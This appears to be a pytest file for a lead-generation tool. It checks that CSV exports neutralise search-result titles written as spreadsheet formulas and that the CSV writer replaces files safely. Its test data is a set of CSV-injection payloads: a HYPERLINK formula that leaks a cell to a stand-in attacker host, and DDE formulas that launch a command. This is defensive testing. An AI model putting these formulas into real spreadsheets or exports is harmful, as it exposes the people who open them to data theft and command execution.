"""CSV injection (issue 22): SERP titles written as spreadsheet formulas leave every export as inert text."""

from __future__ import annotations

import csv
import os
from datetime import UTC, datetime
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from sqlalchemy.orm import Session

from leadgen.csv_safe import FORMULA_PREFIXES, safe_cell, write_csv
from leadgen.errors import OutputUnusable
from leadgen.exports import export_domains
from leadgen.serp import ingest_payload
from leadgen.settings import Settings

T = datetime(2026, 11, 26, 1, 30, tzinfo=UTC)

# Payloads from the OWASP "CSV Injection" page and DDE write-ups, one per formula character.
HOSTILE_TITLES = {
    "okna-leak.ru": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "dde-okna.ru": "=cmd|' /C calc'!A0",
    "plus-okna.ru": "+1+cmd|' /C calc'!A0",
    "minus-okna.ru": "-2+3+cmd|' /C calc'!A0",
    "at-okna.ru": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab-okna.ru": "\t=1+1",
    "cr-okna.ru": "\r=1+1",
    "okna-stroy.ru": "Окна ПВХ — «ОкнаСтрой»",
}


_CONTROL = {"\t": "&#9;", "\r": "&#13;"}  # kept through XML attribute-value normalisation


def _serp_page(titles: dict[str, str]) -> bytes:
    groups = "".join(
        f"""<group><categ attr="d" name="{domain}"/><doccount>1</doccount>
          <doc id="d{i}"><url>https://{domain}/</url><domain>{domain}</domain>
          <title>{escape(title, _CONTROL)}</title>
          <headline>{escape(title)}</headline><mime-type>text/html</mime-type></doc></group>"""
        for i, (domain, title) in enumerate(titles.items())
    )
    return f"""<?xml version="1.0" encoding="utf-8"?>
<yandexsearch version="1.0"><request><query>окна</query><page>0</page></request>
<response date="20261126T013015"><reqid>1-2-3-XML</reqid><found priority="all">8</found>
<results><grouping attr="d" mode="deep" groups-on-page="10" docs-in-group="1" curcateg="-1">
<page first="1" last="8">0</page>{groups}</grouping></results></response></yandexsearch>""".encode()


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_export_of_formula_titles_has_no_live_formula(session: Session, tmp_path: Path) -> None:
    ingest_payload(session, Settings(), operation_id="op-hostile", xml=_serp_page(HOSTILE_TITLES), now=T)
    session.flush()
    out = tmp_path / "domains.csv"
    assert export_domains(session, out) == len(HOSTILE_TITLES)
    rows = _cells(out)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_PREFIXES), row
    header = rows[0]
    names = {r[header.index("domain")]: r[header.index("name")] for r in rows[1:]}
    for domain, title in HOSTILE_TITLES.items():
        name = names[domain]
        if title.startswith(FORMULA_PREFIXES):
            assert name.startswith("'")
            # the value is otherwise intact (the parser may trim surrounding whitespace of the title)
            assert name[1:] == title or name[1:].strip() == title.strip()
        else:
            assert name == title


@pytest.mark.parametrize("value", ["=1+1", "+7 495 123-45-67", "-x", "@x", "\tx", "\rx"])
def test_safe_cell_prefixes_formula_characters(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "okna.ru", "x=1", " =1", "'=1", 5, -3, 0.5])
def test_safe_cell_keeps_other_values(value: object) -> None:
    assert safe_cell(value) == value


def test_write_csv_replaces_atomically_and_keeps_mode(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("old\n")
    out.chmod(0o640)
    assert write_csv(out, ["a"], [["=x"], [None]]) == 2
    assert _cells(out) == [["a"], ["'=x"], [""]]
    assert out.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]  # no temp file left behind


def test_write_csv_failure_leaves_the_old_file(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    out.write_text("old\n")

    def rows():  # type: ignore[no-untyped-def]
        yield ["1"]
        raise RuntimeError("query failed half-way")

    with pytest.raises(RuntimeError):
        write_csv(out, ["a"], rows())
    assert out.read_text() == "old\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_write_csv_refuses_inputs_missing_folders_and_folders(tmp_path: Path) -> None:
    given = tmp_path / "in.csv"
    given.write_text("niche\nокна\n")
    link = tmp_path / "hard.csv"
    os.link(given, link)
    for target in (given, tmp_path / "." / "in.csv", link):
        with pytest.raises(OutputUnusable, match="overwrite the input"):
            write_csv(target, ["a"], [], inputs=[given])
    with pytest.raises(OutputUnusable, match="does not exist"):
        write_csv(tmp_path / "no" / "such" / "out.csv", ["a"], [])
    assert not (tmp_path / "no").exists()
    with pytest.raises(OutputUnusable, match="is a folder"):
        write_csv(tmp_path, ["a"], [])
    assert given.read_text() == "niche\nокна\n"


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write into a read-only folder")
def test_write_csv_refuses_a_read_only_folder(tmp_path: Path) -> None:
    folder = tmp_path / "ro"
    folder.mkdir()
    folder.chmod(0o555)
    try:
        with pytest.raises(OutputUnusable, match="cannot write into"):
            write_csv(folder / "out.csv", ["a"], [])
    finally:
        folder.chmod(0o755)
